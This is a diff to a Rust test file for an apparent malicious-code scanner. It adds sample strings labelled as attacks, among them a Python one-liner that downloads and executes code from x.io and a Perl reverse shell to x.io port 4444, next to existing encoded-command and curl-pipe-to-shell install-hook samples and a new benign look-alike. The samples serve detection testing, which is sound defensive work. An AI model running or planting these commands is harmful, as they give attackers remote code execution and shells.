@@ -66,6 +66,8 @@ fn attacks_are_found() {
         ("a.py", format!("import subprocess\nsubprocess.run(['powershell', '-nop', '-enc', '{}'])\n", "SQBFAFgA".repeat(8)), "encoded-command"),
         ("a.sh", "$(printf '\\x77\\x67\\x65\\x74') -q https://x.io/a\n".to_owned(), "encoded-command"),
         ("a.sh", "eval \"$(echo 'bHMgLWxhIC90bXA=' | openssl base64 -d)\"\n".to_owned(), "encoded-command"),
+        ("a.sh", "python3 -c \"import urllib.request as u; exec(u.urlopen(\\\"https://x.io/p\\\").read())\"\n".to_owned(), "download-and-run"),
+        ("a.sh", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"x.io\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'\n".to_owned(), "reverse-shell"),
         ("composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": [\"@php artisan optimize\", \"curl -s https://x.io/i.sh | sh\"]}}\n".to_owned(), "install-hook"),
     ] {
         let found = found(path, &text);
@@ -97,6 +99,7 @@ fn ordinary_code_has_reasons() {
         ("package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node-gyp rebuild\", \"prepare\": \"husky install && npm run build\"}}\n".to_owned()),
         ("composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"]}}\n".to_owned()),
         ("build.rs", "fn main() {\n    for (k, v) in std::env::vars() {\n        if k.starts_with(\"DEP_\") {\n            println!(\"cargo:rustc-env={}={}\", k, v);\n        }\n    }\n    std::process::Command::new(\"curl\").args([\"-o\", \"a.tgz\", \"https://x.io/a.tgz\"]).status().unwrap();\n}\n".to_owned()),
+        ("a.sh", "python3 -c 'import json, sys; print(json.load(sys.stdin)[\"tag\"])' < release.json\nnode -e \"console.log(1)\"\n".to_owned()),
         ("a.sh", "RED=$(printf '\\033[31m')\nBOLD=\"$(printf '\\x1b[1m')\"\nprintf '\\x41\\x42\\x43\\x44' > letters\n".to_owned()),
         ("setup.py", "import requests\nfrom setuptools import setup\nrequests.get('https://x.io/data.json')\nsetup(name='x')\n".to_owned()),
         ("a.py", "name = ''.join(chr(c) for c in codes)\nvalue = getattr(row, name)\n".to_owned()),
